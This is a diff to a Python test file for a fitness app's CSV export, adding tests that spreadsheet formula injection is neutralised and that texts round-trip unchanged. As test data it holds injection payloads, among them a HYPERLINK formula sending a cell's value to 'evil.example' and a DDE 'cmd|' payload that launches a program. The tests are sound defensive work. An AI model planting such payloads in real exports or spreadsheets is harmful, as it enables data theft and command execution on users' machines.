@@ -47,8 +47,15 @@ from glutemed.progression.models import PerformedSet, RedFlag
 # Text a person could type: any printable character plus the ones CSV must quote. An empty
 # optional text is stored as "no value" in CSV, so optional texts here are non-empty.
 chars = st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from('\n\r\t,";')
-text = st.text(chars, max_size=30)
-some_text = st.text(chars, min_size=1, max_size=30)
+# A spreadsheet runs a cell that starts with one of these as a formula (OWASP's list), and
+# a leading apostrophe is how the export marks a neutralised cell: texts that start with
+# any of them must still come back exactly as typed.
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "'", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|")
+leads = st.sampled_from(FORMULA_LEADS)
+some_text = st.text(chars, min_size=1, max_size=30) | st.builds(
+    lambda lead, rest: lead + rest, leads, st.text(chars, max_size=20)
+)
+text = st.just("") | some_text
 slug = st.from_regex(r"[a-z0-9]{1,8}(-[a-z0-9]{1,8}){0,2}", fullmatch=True)
 variant_id = st.builds(lambda a, b: f"{a}.{b}", slug, slug)
 dates = st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2100, 12, 31))
@@ -260,6 +267,49 @@ def test_csv_zip_round_trip_is_lossless(bundle: HistoryBundle) -> None:
     assert back == bundle
     assert _deletions(back) == _deletions(bundle)
     assert render_csv_zip(back) == data
+
+
+@ROUND_TRIP
+@given(bundles())
+def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(bundle: HistoryBundle) -> None:
+    """CSV formula injection (issue 14): a note such as ``=HYPERLINK(...)`` or
+    ``=cmd|...`` must not reach a cell as a formula. Every cell that starts with ``=``,
+    ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's list) is written with a leading
+    apostrophe, unless it is a plain number; the import takes the apostrophe off again
+    (the round trip above stays lossless)."""
+    import csv
+    import io
+    import re
+    import zipfile
+
+    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+    with zipfile.ZipFile(io.BytesIO(render_csv_zip(bundle))) as archive:
+        for name in archive.namelist():
+            rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
+            for row in rows:
+                for cell in row:
+                    runs = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+                    assert not runs or number.fullmatch(cell), (name, cell)
+
+
+def test_a_formula_in_a_note_is_neutralised_and_comes_back_as_typed(
+    bundle: HistoryBundle,
+) -> None:
+    note = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    first = bundle.performed_sets[0]
+    noted = first.model_copy(update={"note": note, "felt_in": "@SUM(1+1)*cmd|' /C calc'!A0"})
+    changed = bundle.model_copy(update={"performed_sets": [noted, *bundle.performed_sets[1:]]})
+    data = render_csv_zip(changed)
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sets_csv = archive.read("sets.csv").decode("utf-8")
+    assert "'=HYPERLINK(" in sets_csv and ",=HYPERLINK" not in sets_csv
+    assert "'@SUM(1+1)" in sets_csv
+    back = parse_csv_zip(data)
+    assert back.performed_sets[0].note == note
+    assert back.performed_sets[0].felt_in == "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 def _deletions(bundle: HistoryBundle) -> list[dt.datetime | None]:
